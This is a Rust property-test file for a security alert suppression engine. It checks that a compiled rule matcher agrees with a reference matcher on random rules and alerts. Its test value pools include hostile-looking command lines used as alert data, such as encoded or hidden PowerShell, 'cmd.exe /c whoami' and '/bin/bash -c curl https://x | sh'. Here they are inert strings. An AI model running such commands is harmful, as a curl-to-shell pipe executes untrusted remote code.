//! Property test: the compiled matcher agrees with the reference matcher on random rules and
//! alerts, and `explain` agrees with both.

use chrono::{DateTime, TimeZone, Utc};
use proptest::prelude::*;
use serde_json::{Value, json};
use vigil_core::suppression::reference::ReferenceMatcher;
use vigil_core::suppression::{RuleSet, SuppressionRule};
use vigil_core::{Alert, AlertId, Entity, EntityKind, Severity};

const IPS: &[&str] = &[
    "10.0.0.1",
    "10.0.0.2",
    "192.168.1.5",
    "2001:db8::1",
    "::ffff:10.0.0.7",
];
const HOSTS: &[&str] = &["web-01", "WEB-02", "db-01", "ÄRGER-host", "Test-VM"];
const CMDS: &[&str] = &[
    "powershell.exe -enc AAA",
    "cmd.exe /c whoami",
    "PowerShell -nop -w hidden",
    "bash -c id",
];
const ACCOUNTS: &[&str] = &["alice", "Bob", "svc-deploy", "ΣΊΣΥΦΟΣ"];
const FIELDS: &[&str] = &[
    "entities.ip.address",
    "entities.host.hostname",
    "entities.process.commandline",
    "entities.account.name",
    "extendedProperties.pid",
    "alertDisplayName",
    "severity",
    "entities.process.host.hostname",
];
/// Fragments that make substring, prefix, wildcard and regex tests hit sometimes.
const FRAGMENTS: &[&str] = &[
    "power",
    "POWERSHELL",
    "shell",
    "web",
    "WEB-0",
    "-01",
    "10.0.",
    "exe",
    "ärger",
    "σΊσ",
    "944",
    "high",
    "Alert",
    "d",
    "bob",
];
const PATTERNS: &[&str] = &[
    "*shell*",
    "web-0?",
    "*-01",
    "?ash*",
    "*",
    "power*.exe*",
    "ärger*",
];
const REGEXES: &[&str] = &[
    "web-.*",
    "(?i)POWER.*",
    "10\\.0\\.0\\.[12]",
    ".*whoami",
    "b.b",
    "[a-z]+",
];
const CIDRS: &[&str] = &[
    "10.0.0.0/24",
    "10.0.0.1",
    "2001:db8::/32",
    "192.168.0.0/16",
    "0.0.0.0/0",
];

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap()
}

fn pick(pool: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop::sample::select(pool).prop_map(str::to_owned)
}

fn value_for(op: &'static str) -> BoxedStrategy<Value> {
    let any_text = prop_oneof![
        pick(IPS),
        pick(HOSTS),
        pick(CMDS),
        pick(ACCOUNTS),
        pick(FRAGMENTS)
    ];
    match op {
        "in" => prop::collection::vec(any_text, 1..4)
            .prop_map(|v| json!(v))
            .boxed(),
        "wildcard" => pick(PATTERNS).prop_map(Value::String).boxed(),
        "regex" => pick(REGEXES).prop_map(Value::String).boxed(),
        "cidr" => prop_oneof![
            pick(CIDRS).prop_map(Value::String),
            prop::collection::vec(pick(CIDRS), 1..3).prop_map(|v| json!(v)),
        ]
        .boxed(),
        "exists" => any::<bool>().prop_map(Value::Bool).boxed(),
        _ => prop_oneof![
            any_text.clone().prop_map(Value::String),
            prop::collection::vec(any_text, 1..3).prop_map(|v| json!(v)),
        ]
        .boxed(),
    }
}

fn test_cond() -> impl Strategy<Value = Value> {
    let ops = prop::sample::select(vec![
        "in",
        "equals",
        "contains",
        "startsWith",
        "endsWith",
        "wildcard",
        "regex",
        "cidr",
        "exists",
    ]);
    (pick(FIELDS), ops, any::<bool>()).prop_flat_map(|(field, op, cs)| {
        value_for(op).prop_map(move |v| {
            let mut m = serde_json::Map::new();
            m.insert("field".into(), Value::String(field.clone()));
            m.insert(op.into(), v);
            if cs {
                m.insert("caseSensitive".into(), Value::Bool(true));
            }
            Value::Object(m)
        })
    })
}

fn condition() -> impl Strategy<Value = Value> {
    test_cond().prop_recursive(2, 8, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 1..3).prop_map(|v| json!({"allOf": v})),
            prop::collection::vec(inner.clone(), 1..3).prop_map(|v| json!({"anyOf": v})),
            inner.prop_map(|c| json!({"not": c})),
        ]
    })
}

fn rule(i: usize) -> impl Strategy<Value = SuppressionRule> {
    (
        prop::sample::select(vec!["T1", "T2", "*", "t1"]),
        prop::sample::select(vec!["Enabled", "Enabled", "Enabled", "Disabled", "Expired"]),
        prop::option::of(-3i64..4),
        any::<bool>(),
        prop::collection::vec(condition(), 0..3),
    )
        .prop_map(move |(ty, state, expiry, absent_match, conds)| {
            let mut props = json!({
                "alertType": ty, "reason": "FalsePositive", "state": state,
                "suppressionAlertsScope": {"allOf": conds},
            });
            if let Some(h) = expiry {
                props["expirationDateUtc"] =
                    json!((t0() + chrono::Duration::hours(h)).to_rfc3339());
            }
            if absent_match {
                props["whenEntityAbsent"] = json!("match");
            }
            SuppressionRule::from_json(json!({"name": format!("r{i}"), "properties": props}))
                .unwrap()
        })
}

fn rules() -> impl Strategy<Value = Vec<SuppressionRule>> {
    (1usize..12).prop_flat_map(|n| (0..n).map(rule).collect::<Vec<_>>())
}

fn entity() -> impl Strategy<Value = Entity> {
    prop_oneof![
        pick(IPS).prop_map(Entity::ip),
        pick(HOSTS).prop_map(|h| Entity::host(h).with("$id", "h1")),
        (pick(CMDS), any::<bool>()).prop_map(|(c, linked)| {
            let p = Entity::process(c);
            if linked {
                p.with("host", json!({"$ref": "h1"}))
            } else {
                p
            }
        }),
        pick(ACCOUNTS).prop_map(Entity::account),
        Just(Entity::new(EntityKind::Ip)), // an ip entity without an address
    ]
}

fn alert() -> impl Strategy<Value = Alert> {
    (
        prop::sample::select(vec!["T1", "T2", "T3"]),
        prop::sample::select(Severity::ALL.to_vec()),
        prop::collection::vec(entity(), 0..5),
        prop::option::of(prop_oneof![
            Just(json!(944)),
            Just(json!("x944")),
            Just(json!(true))
        ]),
        pick(FRAGMENTS),
    )
        .prop_map(|(ty, sev, entities, pid, name)| {
            let mut b = Alert::builder(
                AlertId::new("a").unwrap(),
                ty,
                format!("Alert {name}"),
                sev,
                t0(),
            );
            for e in entities {
                b = b.entity(e);
            }
            if let Some(p) = pid {
                b = b.extended_property("PID", p);
            }
            b.build()
        })
}

fn names(v: Vec<&SuppressionRule>) -> Vec<String> {
    v.into_iter().map(|r| r.name().to_owned()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn compiled_agrees_with_reference(rules in rules(), alerts in prop::collection::vec(alert(), 1..6), h in -4i64..5) {
        let at = t0() + chrono::Duration::hours(h);
        let set = RuleSet::compile(rules.clone()).unwrap();
        let reference = ReferenceMatcher::new(rules).unwrap();
        for a in &alerts {
            let want = names(reference.matching(a, at));
            let got = names(set.matching(a, at));
            prop_assert_eq!(&got, &want, "alert {}", serde_json::to_string(a).unwrap());
            prop_assert_eq!(set.first_match(a, at).map(|r| r.name().to_owned()), want.first().cloned());
            prop_assert_eq!(set.is_suppressed(a, at), !want.is_empty());
            for r in set.rules() {
                let matched = set.explain(r.name(), a, at).unwrap().matched();
                prop_assert_eq!(matched, want.iter().any(|n| n == r.name()), "explain {}", r.name());
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The skewed shape: many narrow rules over few popular types and small value pools, so that
// index keys are shared by many rules and an alert meets many candidates.

const SKEW_TYPES: &[&str] = &[
    "VM_A", "vm_a", "VM_A", "VM_A", "K8S_B", "K8S_B", "SQL_C", "*",
];
const SKEW_FIELDS: &[(&str, &[&str])] = &[
    ("entities.ip.address", &["10.0.0.1", "10.0.0.2", "52.1.2.3"]),
    (
        "entities.host.hostname",
        &["PROD-web-01", "prod-db-02", "Test-VM"],
    ),
    (
        "entities.process.commandline",
        &[
            "PowerShell.exe -NoProfile -File C:\\Scripts\\a.ps1",
            "cmd.exe /c whoami",
            "/bin/bash -c curl https://x | sh",
        ],
    ),
    (
        "entities.account.name",
        &["CONTOSO\\alice", "svc-build", "Bob@Contoso.com"],
    ),
];

fn recased(s: &str, style: u8) -> String {
    match style % 3 {
        0 => s.to_lowercase(),
        1 => s.to_uppercase(),
        _ => s.to_owned(),
    }
}

fn skewed_cond() -> impl Strategy<Value = Value> {
    (
        0..SKEW_FIELDS.len(),
        any::<bool>(),
        0usize..3,
        0usize..3,
        1usize..4,
        0usize..8,
        3usize..11,
        any::<u8>(),
    )
        .prop_map(|(f, is_in, v, v2, k, start, len, style)| {
            let (field, pool) = SKEW_FIELDS[f];
            if is_in {
                let vals: Vec<String> = (0..k)
                    .map(|j| recased(pool[(v + j * v2) % pool.len()], style.wrapping_add(j as u8)))
                    .collect();
                json!({"field": field, "in": vals})
            } else {
                let chars: Vec<char> = pool[v].chars().collect();
                let len = len.min(chars.len());
                let start = start.min(chars.len() - len);
                let piece: String = chars[start..start + len].iter().collect();
                json!({"field": field, "contains": recased(&piece, style)})
            }
        })
}

fn skewed_rules() -> impl Strategy<Value = Vec<SuppressionRule>> {
    prop::collection::vec(
        (
            prop::sample::select(SKEW_TYPES.to_vec()),
            prop::collection::vec(skewed_cond(), 1..4),
            prop::option::of(-2i64..3),
        ),
        20..240,
    )
    .prop_map(|specs| {
        specs
            .into_iter()
            .enumerate()
            .map(|(i, (ty, conds, expiry))| {
                let mut props = json!({
                    "alertType": ty, "reason": "FalsePositive", "state": "Enabled",
                    "suppressionAlertsScope": {"allOf": conds},
                });
                if let Some(h) = expiry {
                    props["expirationDateUtc"] =
                        json!((t0() + chrono::Duration::hours(h)).to_rfc3339());
                }
                SuppressionRule::from_json(json!({"name": format!("s{i}"), "properties": props}))
                    .unwrap()
            })
            .collect()
    })
}

fn skewed_alert() -> impl Strategy<Value = Alert> {
    (
        prop::sample::select(vec!["VM_A", "vm_a", "K8S_B", "SQL_C", "OTHER"]),
        prop::collection::vec((0..SKEW_FIELDS.len(), 0usize..3, any::<u8>()), 0..6),
    )
        .prop_map(|(ty, ents)| {
            let mut b = Alert::builder(AlertId::new("a").unwrap(), ty, "x", Severity::High, t0());
            for (f, v, style) in ents {
                let value = recased(SKEW_FIELDS[f].1[v], style / 3);
                b = b.entity(match f {
                    0 => Entity::ip(value),
                    1 => Entity::host(value),
                    2 => Entity::process(value),
                    _ => Entity::account(value),
                });
            }
            b.build()
        })
}

// ---------------------------------------------------------------------------------------------
// Hostile shapes: long value lists (past the size where sets and automata take over), long
// wildcard lists, CIDR lists, lists inside anyOf and not, and more conditions than the index
// counts.

fn long_list_cond() -> impl Strategy<Value = Value> {
    let op = prop::sample::select(vec![
        "in",
        "contains",
        "startsWith",
        "endsWith",
        "wildcard",
        "cidr",
    ]);
    (pick(FIELDS), op, 9usize..40, any::<bool>(), any::<u64>()).prop_map(
        |(field, op, n, cs, seed)| {
            // Filler values that match nothing, plus one real value from the pools.
            let mut vals: Vec<String> = (0..n).map(|i| format!("zz{seed:x}q{i}")).collect();
            let real: &[&str] = match op {
                "wildcard" => PATTERNS,
                "cidr" => CIDRS,
                "in" => HOSTS,
                _ => FRAGMENTS,
            };
            if op == "cidr" {
                vals = (0..n)
                    .map(|i| format!("172.{}.{}.0/24", 16 + (i % 16), i % 256))
                    .collect();
            } else if op == "wildcard" {
                vals = vals.into_iter().map(|v| format!("*{v}*")).collect();
            }
            let at = (seed as usize) % vals.len();
            vals[at] = real[(seed as usize / 7) % real.len()].to_owned();
            let mut m = serde_json::Map::new();
            m.insert("field".into(), Value::String(field));
            m.insert(op.into(), json!(vals));
            if cs && op != "cidr" {
                m.insert("caseSensitive".into(), Value::Bool(true));
            }
            Value::Object(m)
        },
    )
}

fn hostile_cond() -> impl Strategy<Value = Value> {
    prop_oneof![
        3 => long_list_cond(),
        1 => long_list_cond().prop_map(|c| json!({"anyOf": [c, {"field": "severity", "equals": "nonesuch"}]})),
        1 => long_list_cond().prop_map(|c| json!({"not": c})),
        2 => test_cond(),
    ]
}

fn hostile_rules() -> impl Strategy<Value = Vec<SuppressionRule>> {
    prop::collection::vec(
        (
            prop::sample::select(vec!["T1", "T2", "*"]),
            prop::collection::vec(hostile_cond(), 0..11),
            any::<bool>(),
        ),
        1..8,
    )
    .prop_map(|specs| {
        specs
            .into_iter()
            .enumerate()
            .map(|(i, (ty, conds, absent_match))| {
                let mut props = json!({
                    "alertType": ty, "reason": "FalsePositive", "state": "Enabled",
                    "suppressionAlertsScope": {"allOf": conds},
                });
                if absent_match {
                    props["whenEntityAbsent"] = json!("match");
                }
                SuppressionRule::from_json(json!({"name": format!("h{i}"), "properties": props}))
                    .unwrap()
            })
            .collect()
    })
}

fn agree(
    rules: Vec<SuppressionRule>,
    alerts: &[Alert],
    at: DateTime<Utc>,
) -> Result<(), TestCaseError> {
    let set = RuleSet::compile(rules.clone()).unwrap();
    let reference = ReferenceMatcher::new(rules).unwrap();
    for a in alerts {
        let want = names(reference.matching(a, at));
        prop_assert_eq!(
            &names(set.matching(a, at)),
            &want,
            "alert {}",
            serde_json::to_string(a).unwrap()
        );
        prop_assert_eq!(
            set.first_match(a, at).map(|r| r.name().to_owned()),
            want.first().cloned()
        );
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn compiled_agrees_with_reference_on_skewed_rule_sets(rules in skewed_rules(), alerts in prop::collection::vec(skewed_alert(), 1..12), h in -3i64..4) {
        agree(rules, &alerts, t0() + chrono::Duration::hours(h))?;
    }

    #[test]
    fn compiled_agrees_with_reference_on_hostile_shapes(rules in hostile_rules(), alerts in prop::collection::vec(alert(), 1..8)) {
        agree(rules, &alerts, t0())?;
    }
}
